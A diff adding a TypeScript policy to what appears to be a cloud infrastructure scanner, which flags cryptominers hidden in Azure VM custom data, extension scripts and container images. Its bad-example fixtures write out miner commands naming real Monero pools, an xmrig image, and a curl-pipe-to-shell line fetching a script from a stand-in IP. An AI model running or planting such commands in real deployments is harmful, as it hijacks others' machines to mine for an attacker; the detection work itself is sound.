@@ -1,0 +1,141 @@
+import * as z from "zod";
+import { type Indicator, indicatorsIn, isMiningImage } from "../catalogue/indicators";
+import type { Verdict } from "../catalogue/words";
+import type { Payload } from "../compute/facts";
+import { layersOf } from "../compute/payload/decode";
+import { when } from "../compute/value";
+import { literalParts } from "./hints";
+import { unknownValues } from "./options";
+import { definePolicy } from "./policy";
+
+/** Payloads that are code: that one cannot be read is news. The name of an image that comes later is none. */
+const code: ReadonlySet<Payload["kind"]> = new Set(["script", "command"]);
+/** Protected settings of an extension hold its script, but most of their values hold other things. */
+const maybeCode: ReadonlySet<Payload["kind"]> = new Set([...code, "settings"]);
+
+/** The names of indicators in a message, at most. */
+const most = 5;
+
+const nouns: { readonly [K in Indicator["kind"]]: string } = {
+  pool: "mining pool",
+  miner: "miner",
+  wallet: "wallet",
+  flag: "miner's flag",
+  image: "miner's image",
+  protocol: "mining protocol",
+};
+
+export default definePolicy({
+  id: "mining-payload",
+  title: "Nothing that is run carries a miner",
+  severity: "critical",
+  why: "Custom data, scripts and images are where the miner comes in: the machine that starts with them earns for the attacker from its first minute.",
+  fix: "Remove the miner, and find out who put it there: treat the credential that wrote it as stolen.",
+  control: "mining-workload",
+
+  reads: "payloads",
+  options: z.strictObject({ unknownValues }),
+  fromEstate: estate => ({ unknownValues: estate.unknownValues }),
+  level: () => "mandatory",
+  examples: {
+    good: [
+      [
+        "azure-native:compute:VirtualMachine",
+        {
+          hardwareProfile: { vmSize: "Standard_B2s" },
+          osProfile: { customData: base64("#!/bin/sh\napt-get update && apt-get install -y nginx\n") },
+        },
+      ],
+      ["azure-native:containerinstance:ContainerGroup", { containers: [{ name: "web", image: "nginx:1.27" }] }],
+    ],
+    bad: [
+      [
+        "azure-native:compute:VirtualMachine",
+        {
+          hardwareProfile: { vmSize: "Standard_B2s" },
+          osProfile: { customData: base64("#!/bin/sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333\n") },
+        },
+      ],
+      [
+        "azure:compute/linuxVirtualMachineScaleSet:LinuxVirtualMachineScaleSet",
+        { sku: "Standard_B2s", instances: 1, userData: base64(base64("xmrig --donate-level 1 --coin monero")) },
+      ],
+      [
+        "azure-native:containerinstance/v20230501:ContainerGroup",
+        { containers: [{ name: "a", image: "docker.io/xmrig/xmrig:latest" }] },
+      ],
+      [
+        "azure-native:compute:VirtualMachineExtension",
+        {
+          vmName: "web",
+          publisher: "Microsoft.Azure.Extensions",
+          type: "CustomScript",
+          settings: {
+            commandToExecute: "curl -sL https://198.51.100.7/a.sh | sh -s -- -o stratum+ssl://xmr.nanopool.org:14433",
+          },
+        },
+      ],
+      [
+        "azure-native:resources:Deployment",
+        {
+          properties: {
+            mode: "Incremental",
+            template: {
+              resources: [
+                {
+                  type: "Microsoft.Compute/virtualMachines",
+                  apiVersion: "2024-07-01",
+                  name: "worker",
+                  properties: {
+                    hardwareProfile: { vmSize: "Standard_B2s" },
+                    osProfile: { customData: "[base64('wget pool.minexmr.com; ./xmrig')]" },
+                  },
+                },
+              ],
+            },
+          },
+        },
+      ],
+    ],
+  },
+
+  *check({ what, kind, text }, { unknownValues }) {
+    const { path } = text;
+    const fault = (message: string): Verdict => ({ path, message: `the ${what} ${message}` });
+    const parts = namesIn(literalParts(text).flatMap(part => layersOf(part).texts));
+    const verdict = when<string, Verdict | undefined>(text, {
+      known: written => {
+        const { texts, cutOff } = layersOf(written);
+        const names = namesIn(texts);
+        if (names) return fault(`names ${names}`);
+        if (kind === "image" && isMiningImage(written)) return fault("is known to mine");
+        return cutOff ? fault(`could not be decoded to the end: ${cutOff}`) : undefined;
+      },
+      unknown: code.has(kind)
+        ? { ...fault("is decided later, and is judged again at up"), level: unknownValues }
+        : undefined,
+      expression: parts
+        ? fault(`names ${parts}`)
+        : code.has(kind)
+          ? { ...fault("is in part an expression, in which a miner would not be seen"), level: "advisory" }
+          : undefined,
+      hidden: maybeCode.has(kind)
+        ? { ...fault("is hidden, and a miner in it would not be seen"), level: "advisory" }
+        : undefined,
+      absent: undefined,
+    });
+    if (verdict) yield verdict;
+  },
+});
+
+/** The signs of mining by kind and name, each once; the text that they stood in is never repeated. */
+function namesIn(texts: readonly string[]): string | undefined {
+  const found = texts.flatMap(text => indicatorsIn(text));
+  const names = [...new Set(found.map(({ kind, name }) => `the ${nouns[kind]} ${name}`))];
+  if (names.length === 0) return undefined;
+  return names.length > most ? `${names.slice(0, most).join(", ")} and ${names.length - most} more` : names.join(", ");
+}
+
+function base64(text: string): string {
+  return Buffer.from(text).toString("base64");
+}
